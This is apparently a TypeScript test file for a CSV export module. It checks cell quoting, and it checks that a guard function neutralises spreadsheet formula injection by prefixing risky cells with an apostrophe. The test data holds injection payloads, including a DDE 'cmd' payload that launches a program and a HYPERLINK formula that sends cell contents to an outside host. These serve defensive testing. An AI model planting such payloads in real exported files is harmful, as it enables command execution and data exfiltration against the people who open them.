import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvText, guarded, unguarded } from './csv.ts';

it.each([
  ['a', 'a'],
  ['a, b', '"a, b"'],
  ['“a” "b"', '"“a” ""b"""'],
  ['a\nb', '"a\nb"'],
  [' a', '" a"'],
  ['', ''],
])('writes %j as %j', (cell, written) => {
  expect(csvText([[cell, 'x']])).toBe(`\uFEFF${written},x\r\n`);
});

it.each([
  ['=1+1', "'=1+1"],
  ['-5', "'-5"],
  ['@a', "'@a"],
  ['+1', "'+1"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ['\n=1', "'\n=1"],
  ['＝1', "'＝1"],
  ['=HYPERLINK("https://x.org/?"&A1)', '\'=HYPERLINK("https://x.org/?"&A1)'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["'=1", "''=1"],
  ["'tis", "'tis"],
  ['a=b', 'a=b'],
])('guards %j as %j', (cell, safe) => {
  expect(guarded(cell)).toBe(safe);
  expect(unguarded(safe)).toBe(cell);
});

it('what was guarded comes back, whatever it is', () => {
  const cells = fc
    .array(fc.constantFrom("'", '=', '-', '+', '@', 'a', '\t', '\n', '＝'))
    .map((all) => all.join(''));
  fc.assert(fc.property(cells, (cell) => unguarded(guarded(cell)) === cell));
});
